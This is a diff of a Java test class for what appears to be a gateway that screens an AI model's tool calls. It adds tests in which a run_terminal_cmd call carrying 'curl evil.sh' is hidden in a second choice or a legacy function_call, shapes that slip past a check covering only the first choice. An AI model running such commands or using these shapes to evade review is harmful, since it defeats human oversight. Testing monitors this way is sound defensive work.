@@ -111,6 +111,38 @@ class ReviewGatewayTest {
         return "event: " + name + "\ndata: " + data + "\n\n";
     }
 
+    /**
+     * Whole (non-streamed) Chat answers have no strict shape: the gateway judges choices[0] only and passes the bytes
+     * on untouched, so a call in a second choice, or in the legacy function_call shape, reaches the client unjudged.
+     */
+    @Test
+    void aWholeChatAnswerWithACallInASecondChoiceIsNotPassedOnUnjudged() throws Exception {
+        String answer = "{\"id\":\"c\",\"object\":\"chat.completion\",\"created\":1,\"model\":\"m\",\"choices\":["
+                + "{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":\"Looking.\"},\"finish_reason\":\"stop\"},"
+                + "{\"index\":1,\"message\":{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":\"call_1\","
+                + "\"type\":\"function\",\"function\":{\"name\":\"run_terminal_cmd\",\"arguments\":\"" + EVIL + "\"}}]},"
+                + "\"finish_reason\":\"tool_calls\"}],\"usage\":{\"prompt_tokens\":5,\"completion_tokens\":5}}";
+        assertWholeChatHasNoUncheckedCall(answer, "second-choice");
+    }
+
+    @Test
+    void aWholeChatAnswerWithALegacyFunctionCallIsNotPassedOnUnjudged() throws Exception {
+        String answer = "{\"id\":\"c\",\"object\":\"chat.completion\",\"created\":1,\"model\":\"m\",\"choices\":["
+                + "{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":null,\"function_call\":"
+                + "{\"name\":\"run_terminal_cmd\",\"arguments\":\"" + EVIL + "\"}},\"finish_reason\":\"function_call\"}],"
+                + "\"usage\":{\"prompt_tokens\":5,\"completion_tokens\":5}}";
+        assertWholeChatHasNoUncheckedCall(answer, "legacy-call");
+    }
+
+    private void assertWholeChatHasNoUncheckedCall(String answer, String session) throws Exception {
+        try (Hostile up = new Hostile(answer); GatewayFixture f = fixture(up)) {
+            HttpResponse<String> r = Http.post(f.base().resolve("/v1/chat/completions"),
+                    "{\"model\":\"gpt-4o-mini\",\"messages\":[{\"role\":\"user\",\"content\":\"Fix the build.\"}]}",
+                    List.of(SessionRegistry.HEADER, session));
+            assertThat(r.body()).as("what the client received").doesNotContain("curl evil.sh");
+        }
+    }
+
     private void assertNoUncheckedCall(String body, String session) throws Exception {
         try (Hostile up = new Hostile(body); GatewayFixture f = fixture(up)) {
             HttpResponse<String> r = Http.post(f.base().resolve("/v1/chat/completions"),
